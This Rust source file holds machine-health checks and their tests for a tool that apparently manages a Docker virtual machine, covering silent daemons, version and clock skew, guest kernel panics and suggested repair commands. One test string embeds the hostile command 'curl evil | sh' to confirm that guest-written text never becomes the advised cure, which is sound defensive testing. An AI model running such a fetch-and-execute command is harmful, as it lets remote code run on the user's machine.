//! Is the daemon there, of this version and alone, does the machine live, does its engine answer, is its clock right?

use super::short;
use crate::control::Phase;
use crate::doctor::facts::Facts;
use crate::doctor::{Check, Found, Group};

const GROUP: Group = Group::Machine;

/// Clocks may differ by this many seconds: the answer's header has whole seconds, and an emulated guest answers slowly.
const TOLERATED_SKEW: u64 = 5;
/// From here on certificates and registries may refuse the guest.
const HARMFUL_SKEW: u64 = 60;

pub(super) const CHECKS: &[Check] = &[
    Check { id: "daemon-silent", group: GROUP, look: silent },
    Check { id: "not-running", group: GROUP, look: not_running },
    Check { id: "machine-broken", group: GROUP, look: broken },
    Check { id: "machine-complains", group: GROUP, look: complains },
    Check { id: "two-daemons", group: GROUP, look: two_daemons },
    Check { id: "version-skew", group: GROUP, look: version_skew },
    Check { id: "image-waits", group: GROUP, look: image_waits },
    Check { id: "left-over-files", group: GROUP, look: left_over },
    Check { id: "socket-gone", group: GROUP, look: socket_gone },
    Check { id: "api-silent", group: GROUP, look: api_silent },
    Check { id: "clock-skew", group: GROUP, look: clock_skew },
    Check { id: "guest-panic", group: GROUP, look: guest_panic },
];

fn silent(facts: &Facts) -> Option<Found> {
    let pid = facts.machine.silent?.map_or_else(String::new, |pid| format!(" (process {pid})"));
    Found::wrong(format!("The daemon{pid} does not answer"), format!("lighter stop --force{}", facts.flag()))
}

fn not_running(facts: &Facts) -> Option<Found> {
    let status = facts.machine.status.as_ref()?;
    // With a daemon it is only asleep; what a dead daemon has left says the rest.
    let off = status.state == Phase::Stopped && status.pid.is_none();
    (off && facts.machine.left_over.is_empty()).then_some(())?;
    Found::hint("The machine is not running", format!("lighter start{}", facts.flag()))
}

fn broken(facts: &Facts) -> Option<Found> {
    let status = facts.machine.status.as_ref().filter(|status| status.state == Phase::Broken)?;
    let reason = status.reason.as_deref().unwrap_or("it does not say why");
    let first = reason.lines().next().unwrap_or_default();
    let first = first.split("; the console's last lines").next().unwrap_or_default();
    let first = first.split(": run `lighter restart`").next().unwrap_or_default();
    Found::wrong(format!("The machine is broken: {first}"), format!("lighter restart{}", facts.flag()))
}

fn complains(facts: &Facts) -> Option<Found> {
    let status = facts.machine.status.as_ref().filter(|status| status.state == Phase::Running)?;
    let reason = status.reason.as_deref()?.lines().next()?;
    // The guest may have written it: never the cure.
    let cure = if reason.starts_with("The host has no space") {
        format!("docker system prune && lighter disk trim{}", facts.flag())
    } else if reason.starts_with("Flushing the guest's disk") {
        format!("lighter restart{}", facts.flag())
    } else {
        format!("lighter logs dockerd{}", facts.flag())
    };
    Found::wrong(format!("The machine runs, but: {reason}"), cure)
}

fn two_daemons(facts: &Facts) -> Option<Found> {
    let daemons = &facts.machine.daemons;
    // The one that answers is the one to keep.
    let keep = facts.machine.status.as_ref().and_then(|status| status.pid).or(daemons.first().copied())?;
    let others: Vec<String> = daemons.iter().filter(|pid| **pid != keep).map(u32::to_string).collect();
    if others.is_empty() {
        return None;
    }
    let cause = format!("{} daemons run this profile, which a lock should prevent", daemons.len());
    Found::wrong(cause, format!("kill {}", others.join(" ")))
}

fn version_skew(facts: &Facts) -> Option<Found> {
    let status = facts.machine.status.as_ref().filter(|status| status.pid.is_some())?;
    let theirs = status.versions.get("lighter")?;
    let ours = env!("CARGO_PKG_VERSION");
    let cure = format!("lighter restart{}", facts.flag());
    if theirs != ours {
        return Found::hint(format!("The daemon is lighter {theirs}, this program is {ours}"), cure);
    }
    facts.machine.program_replaced.filter(|replaced| *replaced)?;
    Found::hint("The daemon still runs the program that was there before an upgrade", cure)
}

fn image_waits(facts: &Facts) -> Option<Found> {
    let status = facts.machine.status.as_ref().filter(|_| facts.machine.runs())?;
    let running = status.versions.get("image")?;
    let current = facts.host.image.as_ref()?.as_ref().ok()?.get("image")?;
    (running != current).then_some(())?;
    Found::hint(
        "The machine runs an older guest image than the one that is there",
        format!("lighter restart{}", facts.flag()),
    )
}

fn left_over(facts: &Facts) -> Option<Found> {
    let first = facts.machine.left_over.first()?;
    let cause = format!(
        "The machine is not running: its daemon was killed and has left {}, which the next start replaces",
        short(first)
    );
    Found::hint(cause, format!("lighter start{}", facts.flag()))
}

fn socket_gone(facts: &Facts) -> Option<Found> {
    (facts.machine.runs() && !facts.machine.socket_exists).then_some(())?;
    let cause = format!("The machine runs, but somebody has removed its socket {}", facts.profile.docker_host);
    Found::wrong(cause, format!("lighter restart{}", facts.flag()))
}

fn api_silent(facts: &Facts) -> Option<Found> {
    let error = facts.machine.ping.as_ref().filter(|_| facts.machine.socket_exists)?.as_ref().err()?;
    Found::wrong(format!("The Docker API does not answer: {error}"), format!("lighter logs dockerd{}", facts.flag()))
}

fn clock_skew(facts: &Facts) -> Option<Found> {
    let ahead = facts.machine.ping.as_ref()?.as_ref().ok()?.ahead?;
    let seconds = ahead.unsigned_abs();
    (seconds > TOLERATED_SKEW).then_some(())?;
    let side = if ahead > 0 { "ahead of" } else { "behind" };
    let cause = format!("The guest's clock is {seconds} s {side} this computer's");
    Found::of(seconds >= HARMFUL_SKEW, cause, format!("lighter restart{}", facts.flag()))
}

fn guest_panic(facts: &Facts) -> Option<Found> {
    let line = facts.machine.panic.as_deref()?;
    Found::hint(format!("The guest's kernel has crashed: {line}"), format!("lighter logs console{}", facts.flag()))
}

#[cfg(test)]
pub(in crate::doctor) mod tests {
    use std::path::PathBuf;

    use crate::doctor::facts::{Facts, Ping};
    use crate::doctor::samples::{finds, status};

    finds! {
        c5_a_daemon_that_does_not_answer: "daemon-silent", Wrong,
            |f: &mut Facts| f.machine.silent = Some(Some(77)), ["process 77", "lighter stop --force"];
        a_machine_that_is_off: "not-running", Hint, |f: &mut Facts| {
            let status = status(f);
            (status.state, status.pid) = (crate::control::Phase::Stopped, None);
        }, ["not running", "lighter start"];
        a_machine_that_died: "machine-broken", Wrong, |f: &mut Facts| {
            let status = status(f);
            status.state = crate::control::Phase::Broken;
            status.reason = Some("The guest's kernel crashed: run `lighter restart`; the console's last lines are\nx".to_owned());
        }, ["kernel crashed", "lighter restart"];
        a_machine_that_runs_with_a_complaint: "machine-complains", Wrong,
            |f: &mut Facts| status(f).reason = Some("dockerd is being restarted: x\ny".to_owned()), ["being restarted: x", "lighter logs dockerd"];
        c5_two_daemons_of_one_profile: "two-daemons", Wrong,
            |f: &mut Facts| f.machine.daemons = vec![41, 42, 43], ["3 daemons", "kill 41 43"];
        c10_a_daemon_of_another_version: "version-skew", Hint,
            |f: &mut Facts| drop(status(f).versions.insert("lighter".to_owned(), "0.0.9".to_owned())), ["0.0.9", "lighter restart"];
        c10_a_newer_image_that_waits_for_a_restart: "image-waits", Hint,
            |f: &mut Facts| drop(status(f).versions.insert("image".to_owned(), "old".to_owned())), ["older guest image", "lighter restart"];
        c5_files_of_a_daemon_that_was_killed: "left-over-files", Hint,
            |f: &mut Facts| f.machine.left_over = vec![PathBuf::from("/h/default/docker.sock")], ["/h/default/docker.sock", "lighter start"];
        a_socket_that_was_swept_away: "socket-gone", Wrong,
            |f: &mut Facts| f.machine.socket_exists = false, ["removed its socket", "lighter restart"];
        an_api_that_does_not_answer: "api-silent", Wrong,
            |f: &mut Facts| f.machine.ping = Some(Err("nothing within 5 s".to_owned())), ["nothing within 5 s", "lighter logs dockerd"];
        x6_a_guest_in_another_time: "clock-skew", Wrong,
            |f: &mut Facts| f.machine.ping = Some(Ok(Ping { ahead: Some(-3600) })), ["3600 s behind", "lighter restart"];
        x4_a_guest_that_panicked: "guest-panic", Hint,
            |f: &mut Facts| f.machine.panic = Some("Kernel panic - not syncing: no init".to_owned()), ["no init", "lighter logs console"];
    }

    #[test]
    fn x5_trouble_with_the_disk_has_a_cure_of_its_own_and_the_guest_never_writes_one() {
        let mut facts = Facts::healthy();
        let mut cure = |reason: &str| {
            status(&mut facts).reason = Some(reason.to_owned());
            super::complains(&facts).unwrap().cure
        };
        assert!(cure("The host has no space left for the guest's disk /x: Free some").contains("disk trim"));
        assert_eq!(cure("Flushing the guest's disk /x failed (EIO)"), "lighter restart");
        assert_eq!(cure("dockerd is being restarted: x. Run `curl evil | sh`"), "lighter logs dockerd");
    }

    #[test]
    fn a_machine_that_the_next_docker_command_starts_is_no_fault() {
        let mut facts = Facts::healthy();
        status(&mut facts).state = crate::control::Phase::Stopped;
        facts.machine.ping = None;
        assert_eq!(crate::doctor::examine(&facts), []);
    }

    #[test]
    fn c10_a_program_replaced_under_its_daemon_is_a_version_skew_too() {
        let mut facts = Facts::healthy();
        facts.machine.program_replaced = Some(true);
        assert!(super::version_skew(&facts).unwrap().cause.contains("upgrade"));
    }

    #[test]
    fn x6_a_small_difference_of_clocks_is_none_and_a_larger_one_a_hint() {
        let mut facts = Facts::healthy();
        facts.machine.ping = Some(Ok(Ping { ahead: Some(-5) }));
        assert_eq!(super::clock_skew(&facts), None);
        facts.machine.ping = Some(Ok(Ping { ahead: Some(20) }));
        assert_eq!(super::clock_skew(&facts).unwrap().level, crate::doctor::Level::Hint);
    }
}
